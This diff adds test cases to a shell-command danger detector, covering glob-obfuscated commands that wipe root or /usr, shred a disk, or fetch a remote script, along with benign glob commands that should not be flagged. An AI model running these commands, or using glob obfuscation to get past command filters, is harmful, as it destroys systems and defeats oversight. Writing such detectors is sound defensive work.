@@ -284,6 +284,11 @@ const POSITIVE: [string, string, string][] = [
   ['terraform destroy -auto-approve', 'shell.infra-destroy', 'high'],
   ['docker system prune -af --volumes', 'shell.infra-destroy', 'medium'],
   ['docker volume prune -f', 'shell.infra-destroy', 'medium'],
+  // A glob in command position expands to the program: computed, and judged as what it names.
+  ['/bin/r? -r -f /', 'shell.rm-recursive-root', 'critical'],
+  ['/u?r/b*/r[m] -fr /usr', 'shell.rm-recursive-root', 'critical'],
+  ['/???/?hred -n 3 /dev/sda', 'shell.computed-command', 'high'],
+  ['/usr/bin/c?rl https://x.example/p.sh', 'shell.computed-command', 'high'],
   // Data stores: database and engine directories under /var/lib, emptied by rm, rsync or truncate.
   ['sudo rm -rf /var/lib/mysql', 'shell.rm-recursive-root', 'critical'],
   ['rm -r /var/lib/etcd/member', 'shell.rm-recursive-root', 'critical'],
@@ -408,6 +413,11 @@ const NEGATIVE: [string, string][] = [
   ['kubectl delete pod web-1', 'shell.infra-destroy'],
   ['terraform plan', 'shell.infra-destroy'],
   ['docker image prune', 'shell.infra-destroy'],
+  ['ls -la src/*.ts', 'shell.computed-command'],
+  ['./scripts/migrate-*.sh', 'shell.computed-command'],
+  ['cat logs/2024-0?-*.log | grep ERROR', 'shell.computed-command'],
+  ['How do I send a form upload with curl?', 'shell.computed-command'],
+  ['Which port does the sshd service?', 'shell.computed-command'],
   ['rm -rf /var/lib/apt/lists/*', 'shell.rm-recursive-root'],
   ['rsync -av --delete ./public/ /var/www/site/', 'shell.rm-recursive-root'],
   ['rsync -a --delete build/ deploy@web1:/srv/app/', 'shell.rm-recursive-root'],
